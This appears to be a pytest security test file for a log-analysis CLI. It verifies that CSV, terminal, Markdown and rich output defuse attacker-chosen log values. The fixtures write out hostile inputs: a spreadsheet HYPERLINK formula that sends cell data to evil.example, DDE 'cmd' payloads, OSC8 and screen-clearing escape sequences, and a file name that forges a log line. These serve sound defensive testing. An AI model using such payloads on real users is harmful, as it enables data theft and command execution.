"""Issue 11, findings 3 and 6: no output hands its consumer something to execute.

Spreadsheets run formulas, terminals obey escape sequences, GitHub-flavoured Markdown links bare
URLs, rich turns ``:x:`` into an emoji. Every log value, key and file name is attacker-chosen.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from analyzer import ingest_objects
from analyzer.alerts import sanitize
from analyzer.cli import app
from analyzer.cli.app import stderr
from analyzer.sources.local import walk

from records import log_key, record, write_log

HYPERLINK = '=HYPERLINK("https://evil.example/x?d="&A1,"click")'
OSC8 = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
FORGED = "x\nfailed: s3://bucket/forged.json.gz: everything is fine\x1b]0;pwned\x07\x1b[2J"


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    logs = tmp_path_factory.mktemp("logs")
    rows = [record(i) for i in range(4)]
    rows[0]["userAgent"] = HYPERLINK
    rows[1]["userAgent"] = "+cmd|' /C calc'!A0"
    rows[2]["userIdentity"]["userName"] = OSC8
    rows[3]["userAgent"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    write_log(logs, log_key(0), rows)
    target = tmp_path_factory.mktemp("output-data")
    assert ingest_objects(walk([logs]), target, workers=1).failed == 0
    return target


def test_csv_cells_are_not_formulas(data: Path) -> None:
    result = CliRunner().invoke(app, ["sql", "--data", str(data), "--format", "csv",
                                      "select userAgent, -1 as n from events order by eventID"])
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.output)))
    agents = [row[0] for row in rows[1:]]
    assert all(not a.startswith(sanitize.FORMULA_START) for a in agents), agents
    assert "'" + HYPERLINK in agents  # the value is kept, only defused
    assert rows[1][1] == "-1"  # numbers stay numbers


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_spreadsheet_rule(value: str) -> None:
    assert sanitize.spreadsheet(value) == "'" + value


def test_sql_table_shows_escapes_never_obeys_them(data: Path) -> None:
    result = CliRunner().invoke(app, ["sql", "--data", str(data), "select userIdentity.userName from events"])
    assert result.exit_code == 0 and "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b]8;;https://evil.example/" in result.output


def test_a_file_name_cannot_forge_summary_lines(tmp_path: Path) -> None:
    """Finding 6: a newline in a failing file's name printed a forged ``failed:`` line; ESC reached the terminal."""
    logs = tmp_path / "logs"
    bad = logs / f"{FORGED}.json.gz"
    bad.parent.mkdir(parents=True)
    bad.write_bytes(b"\x1f\x8b not gzip at all")
    result = CliRunner().invoke(app, ["ingest", str(logs), "--data", str(tmp_path / "data"), "--workers", "1"])
    lines = result.output.splitlines()
    assert not any(line.startswith("failed: s3:") for line in lines), result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    failed = [line for line in lines if line.startswith("failed:")]
    assert len(failed) == 1 and "x\\nfailed: s3:" in failed[0]


def test_markdown_bare_urls_are_not_links() -> None:
    cell = sanitize.markdown("visit https://evil.example/login or www.evil.example, mail a@evil.example")
    assert "https://" not in cell and "www." not in cell and "a@evil" not in cell
    assert cell == "visit https\\://evil.example/login or www\\.evil.example, mail a\\@evil.example"


def test_rich_does_not_turn_an_arn_into_an_emoji() -> None:
    arn = "arn:aws:sns:us-east-1:111122223333:x:"
    with stderr.capture() as captured:
        stderr.print(f"error: notify {arn}", markup=False)
    assert arn in captured.get()


def test_visible_is_one_line() -> None:
    shown = sanitize.visible(FORGED)
    assert "\n" not in shown and "\x1b" not in shown and shown.startswith("x\\nfailed:")
    assert sanitize.visible("a\u202eb") == "a\\u202eb"


def _failed_signin(i: int, user: str, agent: str) -> dict[str, object]:
    return {
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "accountId": "111122223333", "accessKeyId": "", "userName": user},
        "eventTime": f"2026-11-20T10:00:0{i}Z", "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin",
        "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.66", "userAgent": agent,
        "errorMessage": "Failed authentication", "responseElements": {"ConsoleLogin": "Failure"},
        "additionalEventData": {"MFAUsed": "No"}, "eventID": f"e5000000-0000-4000-8000-00000000000{i}",
        "eventType": "AwsConsoleSignIn", "recipientAccountId": "111122223333",
    }


def test_hostile_user_names_and_agents_through_ingest_detect_and_render(tmp_path: Path) -> None:
    """Control sequences and URLs chosen by whoever typed a user name, through ingest → detect → output."""
    user = "eve\x1b]8;;https://evil.example/\x07admin\x1b]8;;\x07\u202e"
    agent = "https://evil.example/phish \x1b[2J\x9b31m"
    logs = tmp_path / "logs"
    write_log(logs, log_key(0), [_failed_signin(i, user, agent) for i in range(3)])
    data = tmp_path / "data"
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(logs), "--data", str(data), "--workers", "1"]).exit_code == 0
    base = ["detect", "--data", str(data), "--only", "console-login-failures"]
    table = runner.invoke(app, base)
    markdown = runner.invoke(app, [*base, "--format", "markdown"])
    for result in (table, markdown):
        assert result.exit_code in (0, 3), result.output
        assert "eve" in result.stdout and "admin" in result.stdout  # the alert is there
        assert not any(c in result.stdout for c in "\x1b\x07\x9b\u202e"), repr(result.stdout)
    assert "https://" not in markdown.stdout  # no bare URL for GitHub to link


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_to_a_terminal_shows_escapes_and_a_file_keeps_them(data: Path, tmp_path: Path) -> None:
    from rich.console import Console

    from analyzer.cli.sql import OutputFormat, emit
    from analyzer.sql import execute, open_readonly

    query = "select userIdentity.userName as u from events where userIdentity.userName like '%click%'"
    screen = _Terminal()
    emit(execute(open_readonly(data), query), OutputFormat.csv, None, None, Console(file=screen))
    assert "\x1b" not in screen.getvalue() and "\\x1b]8;;https://evil.example/" in screen.getvalue()
    emit(execute(open_readonly(data), query), OutputFormat.csv, tmp_path / "x.csv", None, Console(file=screen))
    assert OSC8 in (tmp_path / "x.csv").read_text()  # a file is data: exact
